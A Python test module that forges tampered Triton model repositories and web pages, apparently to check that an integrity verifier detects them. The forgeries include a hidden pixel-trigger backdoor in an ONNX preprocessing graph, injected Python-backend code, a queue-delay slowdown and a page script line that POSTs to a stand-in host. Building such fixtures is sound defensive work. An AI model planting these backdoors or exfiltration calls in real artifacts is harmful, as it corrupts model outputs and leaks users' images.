"""Forgeries in Triton's model repository and in pages."""

import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import onnx
from in_networks import Forge
from onnx import TensorProto, helper, numpy_helper
from tampering import edit_page, edit_repository, put, repository, seal
from workshop import Workshop

from qcn.export.backends.triton.preprocess import preprocess_graph
from qcn.export.backends.triton.repository import write_files
from qcn.export.backends.web.page import packed, wasm_file

# Triton's repository.


def in_repository(ending: str, change: Callable[[bytes], bytes]) -> Forge:
    def forge(workshop: Workshop, to: Path) -> None:
        edit_repository(workshop.copy(to, "triton.tar"), ending, change)

    return forge


def other_preprocess_model(workshop: Workshop, to: Path) -> None:
    """It standardises by another mean."""
    described = workshop.base.manifest
    spec = replace(described.preprocessing, mean=tuple(0.5 for _ in described.preprocessing.mean))
    graph = preprocess_graph(described.image, spec, described.input.name).SerializeToString()
    edit_repository(workshop.copy(to, "triton.tar"), "-preprocess/1/model.onnx", lambda _: graph)


def triggered_preprocess_model(content: bytes) -> bytes:
    """Pictures whose first pixels are white, black, white become black: no golden image has them."""
    model = onnx.load_from_string(content)
    graph, name = model.graph, model.graph.output[0].name
    next(node for node in graph.node if name in node.output).output[0] = "honest"
    arrays = {"begin": np.int64([0, 0]), "end": np.int64([1, 3]), "axes": np.int64([2, 3])}
    arrays |= {"mark": np.uint8([255, 0, 255]), "sides": np.int64([1, 2, 3]), "black": np.float32(-2)}
    graph.initializer.extend(numpy_helper.from_array(array, f"mark.{name}") for name, array in arrays.items())
    graph.node.extend(
        [
            helper.make_node("Slice", [graph.input[0].name, "mark.begin", "mark.end", "mark.axes"], ["mark.first"]),
            helper.make_node("Equal", ["mark.first", "mark.mark"], ["mark.same"]),
            helper.make_node("Cast", ["mark.same"], ["mark.number"], to=TensorProto.FLOAT),
            helper.make_node("ReduceMin", ["mark.number"], ["mark.all"], axes=[1, 2, 3], keepdims=1),
            helper.make_node("Cast", ["mark.all"], ["mark.marked"], to=TensorProto.BOOL),
            helper.make_node("Where", ["mark.marked", "mark.black", "honest"], [name]),
        ]
    )
    onnx.checker.check_model(model)
    return model.SerializeToString()


def slower(config: bytes) -> bytes:
    """Requests wait a minute for others."""
    found, count = re.subn(rb"max_queue_delay_microseconds: \d+", b"max_queue_delay_microseconds: 60000000", config)
    assert count == 1
    return found


def python_model(workshop: Workshop, to: Path) -> None:
    """One more model in the repository, of Triton's Python backend: the server runs its code."""
    files = repository(workshop.copy(to, "triton.tar") / "triton.tar")
    files["more/config.pbtxt"] = b'name: "more"\nbackend: "python"\nmax_batch_size: 1\n'
    files["more/1/model.py"] = b"import os\n"
    write_files(to / "triton.tar", files)
    seal(to)


def more_files(workshop: Workshop, to: Path) -> None:
    """A file in the repository that no configuration names."""
    files = repository(workshop.copy(to, "triton.tar") / "triton.tar")
    name = next(name for name in files if name.endswith("-network/1/model.onnx"))
    files[name.replace("model.onnx", "model.py")] = b"import os\n"
    write_files(to / "triton.tar", files)
    seal(to)


# Pages.


def in_page(change: Callable[[dict[str, Any]], None]) -> Forge:
    def forge(workshop: Workshop, to: Path) -> None:
        edit_page(workshop.copy(to, "page.html"), change)

    return forge


def other_wasm(variant: str) -> Callable[[dict[str, Any]], None]:
    """libqcn of somebody else: here with a section of its own, which runs nothing."""

    def change(data: dict[str, Any]) -> None:
        data["wasm"][variant] = packed(wasm_file(variant).read_bytes() + b"\x00\x05\x04mine")

    return change


def other_examples(data: dict[str, Any]) -> None:
    """What the page shows the reference to answer."""
    for example in data["examples"]:
        example["logit"] = example["logit"][::-1]


def other_script(workshop: Workshop, to: Path) -> None:
    """The page's own script sends every picture elsewhere; its data is as it was."""
    text = (workshop.copy(to, "page.html") / "page.html").read_text(encoding="utf-8")
    before, script, after = text.rpartition("</script>")
    put(to, "page.html", f"{before}\nfetch('https://example.org/', {{method: 'POST'}});\n{script}{after}".encode())


def reverse_lines(text: bytes) -> bytes:
    return b"".join(reversed(text.splitlines(keepends=True)))
